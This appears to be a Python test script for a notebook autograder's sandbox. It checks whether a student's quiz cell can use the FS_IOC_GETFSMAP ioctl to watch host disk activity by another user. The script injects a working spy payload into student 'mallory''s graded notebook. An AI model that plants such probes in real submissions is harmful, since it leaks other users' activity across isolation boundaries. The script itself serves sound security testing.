"""a12: a11 from inside mallory's kernel: her quiz cell takes the host file system's free-space total with
FS_IOC_GETFSMAP, waits 15 s while another user (root, standing in for the TA) writes 32 MiB into /root every 3 s (synced),
and takes it again. Nothing of /root is in her sandbox."""
import sys, json, os, time, threading, subprocess
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from lib import *

A = "ps1_memory"
SPY = r'''
import fcntl, os, struct, time
REC = "=IIQQQQ3Q"; RS = struct.calcsize(REC)
def free():
    n = 100000
    head = struct.pack("=IIII6Q", 0, 0, n, 0, *([0]*6))
    lo = struct.pack(REC, *([0]*9)); hi = struct.pack(REC, 0xffffffff, 0xffffffff, 2**64-1, 2**64-1, 2**64-1, 2**64-1, 0, 0, 0)
    buf = bytearray(head + lo + hi + bytes(RS * n))
    fd = os.open("/usr/bin/env", os.O_RDONLY); fcntl.ioctl(fd, 0xc0c0583b, buf); os.close(fd)
    k = struct.unpack_from("=I", buf, 12)[0]; base = len(head) + 2 * RS
    return sum(struct.unpack_from(REC, buf, base + i * RS)[5] for i in range(k) if struct.unpack_from(REC, buf, base + i * RS)[3] == 1)
a = free(); time.sleep(15); b = free()
print("SPY host free space changed by %+d MiB while I waited" % ((b - a) // 2**20))
'''

def build():
    nb = honest(A)
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "quiz_q5":
            c.source = c.source + "\n" + SPY
    return nb

def ta_writes(p):
    for line in p.stdout:
        print(line.rstrip()[:160], flush=True)
        if "aaron44u graded" in line:
            for i in range(8):  # the TA writes 32 MiB every 3 s while mallory's notebook runs
                time.sleep(3)
                subprocess.run(f"dd if=/dev/urandom of=/root/a12-ta-file{i} bs=1M count=32 status=none; sync", shell=True)
            print("TA wrote 8 x 32 MiB into /root, one every 3 s", flush=True)

if __name__ == "__main__":
    d = make_course("a12")
    hand_in(d, AARON, A, honest(A)); hand_in(d, MALLORY, A, build()); hand_in(d, ZOE, A, honest(A))
    p = grade(d, A, background=True); ta_writes(p); p.wait()
    [os.unlink(f"/root/a12-ta-file{i}") for i in range(8)]
    scores(d)
    nb = json.load(open(f"{d}/autograded/{MALLORY}/{A}/{A}.ipynb"))
    text = "".join("".join(o.get("text", "")) for c in nb["cells"] for o in c.get("outputs", []))
    print("\n".join(l for l in text.splitlines() if l.startswith("SPY")))
